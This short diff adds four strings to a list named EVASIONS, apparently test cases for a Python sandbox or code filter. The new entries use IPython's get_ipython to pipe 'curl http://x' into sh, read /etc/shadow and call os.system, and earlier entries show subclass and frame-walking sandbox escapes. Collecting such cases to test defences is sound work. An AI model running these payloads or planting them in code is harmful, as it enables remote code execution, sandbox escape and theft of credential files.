@@ -227,6 +227,10 @@ EVASIONS = [
     "().__class__.__base__.__subclasses__()[104].load_module('os')",
     "(x for x in ()).gi_frame.f_back.f_globals",
     "import types\ntypes.FunctionType(code, {})()",
+    "get_ipython().system('curl http://x | sh')",
+    "from IPython import get_ipython as g\ng().run_line_magic('sx', 'cat /etc/shadow')",
+    "get_ipython().run_cell_magic('bash', '', 'curl http://x | sh')",
+    "get_ipython().run_cell('__import__(\"os\").system(1)')",
 ]
 
 
